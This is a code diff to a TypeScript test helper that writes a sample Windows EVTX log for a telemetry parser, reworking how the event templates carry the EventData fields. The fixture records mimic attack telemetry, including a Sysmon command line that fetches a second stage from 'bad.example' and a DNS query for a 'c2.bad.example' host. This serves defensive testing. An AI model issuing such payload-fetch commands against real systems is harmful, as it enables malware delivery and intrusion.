@@ -1,20 +1,21 @@
 import { writeFileSync } from "node:fs";
 import { fileURLToPath } from "node:url";
-import { EvtxWriter, type Node, number, text, type Typed } from "./evtx-writer.ts";
+import { EvtxWriter, type Node, nothing, number, text, type Typed } from "./evtx-writer.ts";
 
 /** Where the sample lies; `node -C source test/evtx-sample.ts` writes it anew. */
 export const samplePath: string = fileURLToPath(new URL("../src/telemetry/evtx/sample.evtx", import.meta.url));
 
-const data = (first: number, ...names: readonly string[]): Node => ({
+const data = (...names: readonly string[]): Node => ({
   name: "EventData",
   children: names.map((name, i) => ({
     name: "Data",
     attributes: [["Name", name] as const],
-    children: [{ hole: first + i, optional: true }],
+    children: [{ hole: i, optional: true }],
   })),
 });
 
-const event = (provider: string, channel: string, ...names: readonly string[]): Node => ({
+/** Everything but the data, which the last value brings with a template of its own, as in the files of Windows. */
+const event = (provider: string, channel: string): Node => ({
   name: "Event",
   attributes: [["xmlns", "http://schemas.microsoft.com/win/2004/08/events/event"]],
   children: [
@@ -22,14 +23,14 @@ const event = (provider: string, channel: string, ...names: readonly string[]): 
       name: "System",
       children: [
         { name: "Provider", attributes: [["Name", provider]] },
-        { name: "EventID", children: [{ hole: 0 }] },
-        { name: "TimeCreated", attributes: [["SystemTime", { hole: 1 }]] },
-        { name: "EventRecordID", children: [{ hole: 2 }] },
+        { name: "EventID", children: [{ hole: 0, optional: true, type: 0x06 }] },
+        { name: "TimeCreated", attributes: [["SystemTime", { hole: 1, optional: true, type: 0x11 }]] },
+        { name: "EventRecordID", children: [{ hole: 2, optional: true, type: 0x0a }] },
         { name: "Channel", children: [channel] },
         { name: "Computer", children: ["ws7.parks.example"] },
       ],
     },
-    data(3, ...names),
+    { hole: 3, optional: true, type: 0x21 },
   ],
 });
 
@@ -48,26 +49,31 @@ export const sampleEvtx = (): Buffer => {
   const sysmon = "Microsoft-Windows-Sysmon";
   const operational = `${sysmon}/Operational`;
   const writer = new EvtxWriter();
-  writer.record(event(sysmon, operational, "Image", "CommandLine", "User", "Hashes"), [
-    ...head(1, 1),
-    text("C:\\Temp\\a.exe"),
-    text("a.exe --fetch https://bad.example/stage2"),
-    text("PARKS\\chan"),
-    text("MD5=0123456789abcdef0123456789abcdef,IMPHASH=00112233445566778899aabbccddeeff"),
-  ]);
-  writer.record(event(sysmon, operational, "Image", "SourceIp", "SourcePort", "DestinationIp", "DestinationPort"), [
-    ...head(3, 2),
-    text("C:\\Temp\\a.exe"),
-    text("192.0.2.14"),
-    number(0x06, 2, 50_111n),
-    text("203.0.113.7"),
-    number(0x06, 2, 443n),
-  ]);
-  writer.record(event(sysmon, operational, "QueryName"), [...head(22, 3), text("c2.bad.example")]);
-  writer.record(
-    event("Microsoft-Windows-Security-Auditing", "Security", "TargetUserName", "LogonType", "IpAddress", "IpPort"),
-    [...head(4625, 4), text("lo"), number(0x08, 4, 3n), text("198.51.100.23"), text("51000")],
-  );
+  const write = (id: number, record: number, of: Node, values: Readonly<Record<string, Typed>>): void => {
+    writer.recordWith(of, head(id, record), data(...Object.keys(values)), Object.values(values), ticks(record));
+  };
+  const sysmonEvent = event(sysmon, operational);
+  write(1, 1, sysmonEvent, {
+    RuleName: nothing,
+    Image: text("C:\\Temp\\a.exe"),
+    CommandLine: text("a.exe --fetch https://bad.example/stage2"),
+    User: text("PARKS\\chan"),
+    Hashes: text("MD5=0123456789abcdef0123456789abcdef,IMPHASH=00112233445566778899aabbccddeeff"),
+  });
+  write(3, 2, sysmonEvent, {
+    Image: text("C:\\Temp\\a.exe"),
+    SourceIp: text("192.0.2.14"),
+    SourcePort: number(0x06, 2, 50_111n),
+    DestinationIp: text("203.0.113.7"),
+    DestinationPort: number(0x06, 2, 443n),
+  });
+  write(22, 3, sysmonEvent, { QueryName: text("c2.bad.example") });
+  write(4625, 4, event("Microsoft-Windows-Security-Auditing", "Security"), {
+    TargetUserName: text("lo"),
+    LogonType: number(0x08, 4, 3n),
+    IpAddress: text("198.51.100.23"),
+    IpPort: text("51000"),
+  });
   const file = writer.file();
   let end = 4096 + 512;
   const starts: number[] = [];
